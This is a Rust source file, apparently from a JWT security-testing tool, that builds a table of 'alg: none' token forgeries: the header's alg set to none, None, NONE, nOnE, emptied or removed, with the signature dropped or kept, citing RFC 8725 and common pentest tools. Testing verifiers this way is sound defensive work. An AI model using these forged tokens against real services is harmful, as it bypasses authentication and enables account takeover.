//! The header says that the token is not signed (RFC 7519 §6).

use crate::attack::{
    Family, Forged, Forgery, Signed,
    draft::{Draft, raw},
};
use crate::jose::b64;

const MEANS: &str = "Unsigned tokens are accepted: anyone can write any token (RFC 8725 §3.2).";

#[rustfmt::skip] // a table: one line a forgery
pub(in crate::attack) fn forgeries() -> Vec<Forgery> {
    const F: Family = Family::AlgNone;
    vec![
        Forgery::token(F, "alg-none", "none, no signature", "`alg` becomes `none`, the signature is left out.", "RFC 8725 §3.2; jwt_tool, JWT Editor, PortSwigger, jwt-hack", MEANS, |d| none(d, "none", false)),
        Forgery::token(F, "alg-none-capital", "None, no signature", "`alg` becomes `None`, the signature is left out.", "RFC 8725 §3.2; jwt_tool, JWT Editor", MEANS, |d| none(d, "None", false)),
        Forgery::token(F, "alg-none-upper", "NONE, no signature", "`alg` becomes `NONE`, the signature is left out.", "RFC 8725 §3.2; jwt_tool, JWT Editor", MEANS, |d| none(d, "NONE", false)),
        Forgery::token(F, "alg-none-mixed", "nOnE, no signature", "`alg` becomes `nOnE`, the signature is left out.", "RFC 8725 §3.2; jwt_tool, JWT Editor", MEANS, |d| none(d, "nOnE", false)),
        Forgery::token(F, "alg-none-signature-kept", "none, signature kept", "`alg` becomes `none`, the signature stays.", "RFC 8725 §3.2; jwt-hack", MEANS, |d| none(d, "none", true)),
        Forgery::token(F, "alg-none-capital-signature-kept", "None, signature kept", "`alg` becomes `None`, the signature stays.", "RFC 8725 §3.2; jwt-hack", MEANS, |d| none(d, "None", true)),
        Forgery::token(F, "alg-none-upper-signature-kept", "NONE, signature kept", "`alg` becomes `NONE`, the signature stays.", "RFC 8725 §3.2; jwt-hack", MEANS, |d| none(d, "NONE", true)),
        Forgery::token(F, "alg-none-mixed-signature-kept", "nOnE, signature kept", "`alg` becomes `nOnE`, the signature stays.", "RFC 8725 §3.2; jwt-hack", MEANS, |d| none(d, "nOnE", true)),
        Forgery::token(F, "alg-empty", "Empty alg", "`alg` becomes the empty string, the signature is left out.", "RFC 7515 §4.1.1; jwt_tool", MEANS, |d| none(d, "", false)),
        Forgery::token(F, "alg-missing", "No alg", "`alg` is removed, the signature is left out.", "RFC 7515 §4.1.1; Wycheproof", MEANS, |d| raw(format!("{}.{}.", b64::encode(d.header_set("/alg", None)?), d.parts()?[1]), Signed::Nothing)),
    ]
}

fn none(d: &Draft<'_>, alg: &str, keep: bool) -> Forged {
    let [_, payload, signature] = d.parts()?;
    let header = b64::encode(d.header_set("/alg", Some(alg.into()))?);
    if keep {
        d.signature()?;
        return raw(format!("{header}.{payload}.{signature}"), Signed::Kept);
    }
    raw(format!("{header}.{payload}."), Signed::Nothing)
}
